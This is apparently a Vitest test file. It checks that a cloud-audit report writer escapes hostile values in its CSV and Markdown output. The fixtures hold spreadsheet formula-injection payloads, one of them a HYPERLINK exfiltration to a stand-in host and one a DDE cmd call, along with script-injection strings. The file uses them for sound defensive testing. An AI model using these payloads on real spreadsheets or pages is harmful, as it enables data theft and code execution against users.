import { describe, expect, it } from 'vitest';
import { formulaSafe, renderCsv } from '../../reports/csv.js';
import { mdText, renderMarkdown } from '../../reports/markdown.js';
import { inertText } from '../../src/text/inert.js';
import { finding, twoAccountEstate } from '../helpers/findings-fixtures.js';

/** RFC 4180 parser, enough to read back what renderCsv wrote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

describe('findings.csv', () => {
  const payloads = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
  ];

  it('neutralizes cells that a spreadsheet would run as formulas', () => {
    for (const p of payloads) expect(formulaSafe(p).startsWith("'")).toBe(true);
    expect(formulaSafe('i-0abc')).toBe('i-0abc');
  });

  it('writes hostile tag values and names as inert text that reads back intact', () => {
    const extra = payloads.map((p, i) =>
      finding({
        control: 'ownership-tagging',
        status: 'fail',
        resource: { id: `i-evil${i}`, type: 'AWS::EC2::Instance', name: p },
        reason: p,
      }),
    );
    const rows = parseCsv(renderCsv(twoAccountEstate({ extraFindings: extra })));
    const header = rows[0] ?? [];
    const reason = header.indexOf('reason');
    const evil = rows.filter((r) => r[header.indexOf('resource_id')]?.startsWith('i-evil'));
    expect(evil).toHaveLength(payloads.length);
    for (const r of evil) {
      for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    }
    // A carriage return is shown as an escape (inert text), everything else keeps its quote guard.
    expect(evil.map((r) => r[reason])).toEqual(payloads.map((p) => formulaSafe(inertText(p))));
    expect(rows.every((r) => r.length === header.length)).toBe(true);
  });
});

describe('summary.md', () => {
  it('turns markup in cloud values into plain text', () => {
    expect(mdText('[click](http://evil.example) <img src=x onerror=alert(1)> `x` | y')).toBe(
      '\\[click\\](http://evil.example) &lt;img src=x onerror=alert(1)&gt; \\`x\\` \\| y',
    );
    expect(mdText('- not a list')).toBe('\\- not a list');
    expect(mdText('0.1.0')).toBe('0.1.0');
  });

  it('keeps a hostile scope name inside its table cell', () => {
    const md = renderMarkdown(
      twoAccountEstate({ hostile: 'x | <script>alert(1)</script> | [a](javascript:alert(1))' }),
    );
    const row = md.split('\n').find((l) => l.includes('aws:444455556666'));
    expect(row).toBeDefined();
    expect(row?.split(/(?<!\\)\|/).length).toBe(9);
    expect(md).not.toContain('<script>');
    expect(md).not.toContain('[a](');
  });
});
